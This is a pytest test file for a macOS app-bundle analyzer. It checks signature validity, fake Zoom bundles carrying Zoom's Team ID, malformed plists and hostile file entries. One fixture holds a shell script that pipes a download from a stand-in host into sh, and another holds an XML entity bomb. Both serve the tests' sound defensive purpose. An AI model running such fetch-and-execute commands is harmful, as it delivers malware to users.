""".app bundles: Info.plist facts and claims, the main executable's signature, bundle discovery and I/O."""

from __future__ import annotations

import os
import plistlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from agent.analysis.bundle_io import read_bundle
from agent.analysis.facts import SigStatus
from agent.analysis.formats.app_bundle import analyze_bundle, find_bundles
from tests.corpus import macho_build as mb

ZOOM_TEAM = "BJ4HAAB9B3"
ZOOM_ID = "us.zoom.xos"
EXE = "zoom.us"


@pytest.fixture(scope="module")
def pki() -> dict[str, mb.Identity]:
    root = mb.make_root()
    return {"root": root, "zoom": mb.make_developer(root, ZOOM_TEAM, "Zoom Video Communications, Inc.")}


@pytest.fixture(scope="module")
def ctx_default(make_ctx: Callable[..., Any]) -> Any:
    return make_ctx(now=mb.NOW)


@pytest.fixture(scope="module")
def ctx_extra(make_ctx: Callable[..., Any], pki: dict[str, mb.Identity], tmp_path_factory: Any) -> Any:
    pem = pki["root"].write_pem(tmp_path_factory.mktemp("roots") / "root.pem")
    return make_ctx(extra_roots=[pem], now=mb.NOW)


def _zoom_plist(binary: bool = False) -> bytes:
    return mb.info_plist(ZOOM_ID, "zoom.us", EXE, binary=binary, display_name="Zoom Workplace")


def _adhoc_exe() -> bytes:
    return mb.build_macho("arm64", sign=mb.SignSpec(identifier=ZOOM_ID, team_id=ZOOM_TEAM))


@pytest.mark.parametrize("binary", [False, True], ids=["xml-plist", "binary-plist"])
def test_fake_zoom_app_adhoc(binary: bool, ctx_default: Any) -> None:
    """The GhostCall shape: "zoom.us.app" whose executable is ad-hoc signed with Zoom's Team ID written in.
    Both plist encodings occur in the wild (Xcode writes binary, hand-made bundles XML)."""
    files = mb.app_tree(_zoom_plist(binary), EXE, _adhoc_exe())
    res = analyze_bundle(files, "zoom.us.app", ctx_default)
    assert res.type == "app"
    assert res.facts["info_plist_format"] == ("binary" if binary else "xml")
    assert res.facts["CFBundleIdentifier"] == ZOOM_ID
    assert res.facts["CFBundleShortVersionString"] == "6.1.0"
    assert res.facts["LSMinimumSystemVersion"] == "11.0"
    for field in [
        ("plist:CFBundleIdentifier", ZOOM_ID),
        ("plist:CFBundleName", "zoom.us"),
        ("plist:CFBundleDisplayName", "Zoom Workplace"),
        ("plist:CFBundleExecutable", EXE),
        ("macho:identifier", ZOOM_ID),
        ("macho:team_id", ZOOM_TEAM),
    ]:
        assert field in res.claim_fields
    sig = res.signature
    assert sig is not None and sig.status is SigStatus.ADHOC
    assert sig.team_id is None and sig.extra["claimed_team_id"] == ZOOM_TEAM
    assert res.facts["executable"]["cputypes"] == ["arm64"]
    # The ad-hoc signature did not seal this Info.plist: worth recording, not a digest failure.
    assert any("Info.plist is not bound" in a for a in res.anomalies)


def _signed_app(pki: dict[str, mb.Identity], plist: bytes, code_resources: bytes) -> dict[str, bytes]:
    """What codesign does to a bundle: the executable's CodeDirectory seals Info.plist and CodeResources."""
    spec = mb.SignSpec(
        identifier=ZOOM_ID,
        team_id=ZOOM_TEAM,
        flags=mb.CS_RUNTIME,
        signer=pki["zoom"],
        hash_types=(mb.SHA1, mb.SHA256),
        sealed_files={1: plist, 3: code_resources},
    )
    return mb.app_tree(plist, EXE, mb.build_macho("arm64", sign=spec), code_resources)


CODE_RESOURCES = plistlib.dumps({"files": {}, "files2": {}, "rules": {}, "rules2": {}})

BUNDLE_SIG_CASES = [
    # Signed by the (trusted) test root with Info.plist and CodeResources sealed: the Team ID is proven.
    ("sealed-intact", lambda f: f, SigStatus.VALID, ZOOM_TEAM, None),
    # Bundle id edited after signing: the executable is intact but the bundle is not what was signed.
    (
        "info-plist-edited",
        lambda f: {**f, "Contents/Info.plist": mb.info_plist("us.zoom.xos2", "zoom.us", EXE)},
        SigStatus.BAD_DIGEST,
        None,
        "Info.plist does not match",
    ),
    # CodeResources replaced (e.g. to hide an added resource): its seal breaks.
    (
        "code-resources-edited",
        lambda f: {**f, "Contents/_CodeSignature/CodeResources": CODE_RESOURCES + b" "},
        SigStatus.BAD_DIGEST,
        None,
        "CodeResources does not match",
    ),
]


@pytest.mark.parametrize(
    ("edit", "status", "team", "problem"), [c[1:] for c in BUNDLE_SIG_CASES], ids=[c[0] for c in BUNDLE_SIG_CASES]
)
def test_bundle_seals(
    edit: Callable[[dict[str, bytes]], dict[str, bytes]],
    status: SigStatus,
    team: str | None,
    problem: str | None,
    pki: dict[str, mb.Identity],
    ctx_extra: Any,
) -> None:
    files = edit(_signed_app(pki, _zoom_plist(), CODE_RESOURCES))
    res = analyze_bundle(files, "zoom.us.app", ctx_extra)
    sig = res.signature
    assert sig is not None and sig.status is status, sig.problems
    assert sig.team_id == team
    if problem:
        assert any(problem in p for p in sig.problems), sig.problems


def test_signed_bundle_untrusted_by_default(pki: dict[str, mb.Identity], ctx_default: Any) -> None:
    """The same intact bundle without the test root configured: a self-made CA proves nothing."""
    res = analyze_bundle(_signed_app(pki, _zoom_plist(), CODE_RESOURCES), "zoom.us.app", ctx_default)
    assert res.signature is not None and res.signature.status is SigStatus.UNTRUSTED_ROOT
    assert res.signature.team_id is None


MALFORMED_PLISTS = [
    # Truncated XML.
    ("truncated-xml", _zoom_plist()[:100], "Info.plist is malformed"),
    # A binary plist header followed by garbage.
    ("garbage-binary", b"bplist00" + b"\xff" * 64, "Info.plist is malformed"),
    # Valid plist, wrong shape.
    ("not-a-dict", plistlib.dumps(["us.zoom.xos"]), "not a dictionary"),
    # XML entity declarations (billion laughs) are refused by plistlib, never expanded.
    (
        "entity-bomb",
        b'<?xml version="1.0"?><!DOCTYPE plist [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;">]>'
        b"<plist><dict><key>CFBundleName</key><string>&b;</string></dict></plist>",
        "Info.plist is malformed",
    ),
    # Way over the size budget.
    ("oversized", b"<plist>" + b" " * (2 * 1024 * 1024) + b"</plist>", "over the budget"),
]


@pytest.mark.parametrize(("plist", "anomaly"), [m[1:] for m in MALFORMED_PLISTS], ids=[m[0] for m in MALFORMED_PLISTS])
def test_malformed_info_plist(plist: bytes, anomaly: str, ctx_default: Any) -> None:
    """A broken Info.plist is evidence; the lone executable in Contents/MacOS is still analysed."""
    res = analyze_bundle(mb.app_tree(plist, EXE, _adhoc_exe()), "zoom.us.app", ctx_default)
    assert res.type == "app"
    assert any(anomaly in a for a in res.anomalies), res.anomalies
    assert res.signature is not None and res.signature.status is SigStatus.ADHOC
    assert ("macho:team_id", ZOOM_TEAM) in res.claim_fields


def test_wrong_typed_fields_and_path_tricks(ctx_default: Any) -> None:
    """CFBundleName as a number and CFBundleExecutable escaping Contents/MacOS are anomalies, not facts."""
    plist = plistlib.dumps({"CFBundleIdentifier": ZOOM_ID, "CFBundleName": 7, "CFBundleExecutable": "../../x"})
    files = {"Contents/Info.plist": plist, "Contents/MacOS/a": _adhoc_exe(), "Contents/MacOS/b": _adhoc_exe()}
    res = analyze_bundle(files, "zoom.us.app", ctx_default)
    assert "CFBundleName" not in res.facts
    assert any("CFBundleName is a int" in a for a in res.anomalies)
    assert any("not a plain file name" in a for a in res.anomalies)
    # Two candidates in Contents/MacOS and no usable name: no guessing.
    assert res.signature is not None and res.signature.status is SigStatus.UNSIGNED
    assert any("not found in the bundle" in a for a in res.anomalies)


def test_script_executable(ctx_default: Any) -> None:
    """A bundle whose main executable is a shell script: unsigned, flagged, handed back as a member."""
    script = b"#!/bin/sh\ncurl -fsSL https://update.zoom-fix.invalid/x | sh\n"
    res = analyze_bundle(mb.app_tree(_zoom_plist(), EXE, script), "zoom.us.app", ctx_default)
    assert res.signature is not None and res.signature.status is SigStatus.UNSIGNED
    assert [r.code for r in res.indicators] == ["APP_SCRIPT_EXECUTABLE"]
    assert [m.name for m in res.members] == [f"Contents/MacOS/{EXE}"]


def test_missing_executable(ctx_default: Any) -> None:
    res = analyze_bundle({"Contents/Info.plist": _zoom_plist()}, "zoom.us.app", ctx_default)
    assert res.signature is not None and res.signature.status is SigStatus.UNSIGNED
    assert ("plist:CFBundleIdentifier", ZOOM_ID) in res.claim_fields
    assert any("not found" in a for a in res.anomalies)


def test_fat_executable(ctx_default: Any) -> None:
    """Universal main executable: one tampered slice makes the bundle's signature BAD_DIGEST."""
    spec = mb.SignSpec(identifier=ZOOM_ID)
    fat = mb.build_fat(
        [("x86_64", mb.build_macho(sign=spec)), ("arm64", mb.flip_code_byte(mb.build_macho("arm64", sign=spec)))]
    )
    res = analyze_bundle(mb.app_tree(_zoom_plist(), EXE, fat), "zoom.us.app", ctx_default)
    assert res.facts["executable"]["cputypes"] == ["x86_64", "arm64"]
    assert res.signature is not None and res.signature.status is SigStatus.BAD_DIGEST


FIND_CASES = [
    # A ZIP of one app.
    (["zoom.us.app/Contents/Info.plist", "zoom.us.app/Contents/MacOS/zoom.us"], ["zoom.us.app"]),
    # Nested in a folder, with a helper app inside: only the outer bundle.
    (
        ["dl/Zoom.app/Contents/Info.plist", "dl/Zoom.app/Contents/Frameworks/H.app/Contents/Info.plist"],
        ["dl/Zoom.app"],
    ),
    # Finder's AppleDouble copies are not bundles; a bare "X.app" file is not either.
    (["__MACOSX/zoom.us.app/Contents/._Info.plist", "notes.app", "a/.app/Contents/x"], []),
    # Two apps side by side; case-insensitive suffix.
    (["A.APP/Contents/MacOS/a", "B.app/Contents/Info.plist", "readme.txt"], ["A.APP", "B.app"]),
]


@pytest.mark.parametrize(("paths", "roots"), FIND_CASES)
def test_find_bundles(paths: list[str], roots: list[str]) -> None:
    assert find_bundles(paths) == roots


def _write_tree(root: Path, files: dict[str, bytes]) -> None:
    for rel, data in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(data)


def test_read_bundle_roundtrip(tmp_path: Path, pki: dict[str, mb.Identity], ctx_extra: Any) -> None:
    """A bundle directory read back gives the same analysis as the in-memory files."""
    files = _signed_app(pki, _zoom_plist(binary=True), CODE_RESOURCES)
    root = tmp_path / "zoom.us.app"
    _write_tree(root, {**files, "Contents/Resources/big.bin": b"\0" * 4096})
    got = read_bundle(root, max_bytes=10 * 1024 * 1024)
    assert got == files  # only the three key files
    res = analyze_bundle(got, root.name, ctx_extra)
    assert res.signature is not None and res.signature.status is SigStatus.VALID


def test_read_bundle_refuses_hostile_entries(tmp_path: Path) -> None:
    """Symlinks out of the bundle, FIFOs (would block) and oversized executables are not read."""
    outside = tmp_path / "secret"
    outside.write_bytes(b"not yours")
    root = tmp_path / "zoom.us.app"
    _write_tree(root, {"Contents/Info.plist": _zoom_plist()})
    (root / "Contents/MacOS").mkdir()
    (root / "Contents/MacOS" / EXE).symlink_to(outside)
    (root / "Contents/_CodeSignature").mkdir()
    os.mkfifo(root / "Contents/_CodeSignature/CodeResources")  # inside the bundle: opening must not block
    assert read_bundle(root, max_bytes=1024) == {"Contents/Info.plist": _zoom_plist()}

    (root / "Contents/MacOS" / EXE).unlink()
    (root / "Contents/MacOS" / EXE).write_bytes(b"\xcf\xfa\xed\xfe" + b"\0" * 4096)
    assert set(read_bundle(root, max_bytes=1024)) == {"Contents/Info.plist"}  # over budget
    assert set(read_bundle(root, max_bytes=8192)) == {"Contents/Info.plist", f"Contents/MacOS/{EXE}"}


def test_read_bundle_without_plist(tmp_path: Path) -> None:
    """No Info.plist: the only file in Contents/MacOS is taken as the executable."""
    root = tmp_path / "x.app"
    _write_tree(root, {"Contents/MacOS/run": b"#!/bin/sh\n"})
    assert read_bundle(root, max_bytes=1024) == {"Contents/MacOS/run": b"#!/bin/sh\n"}
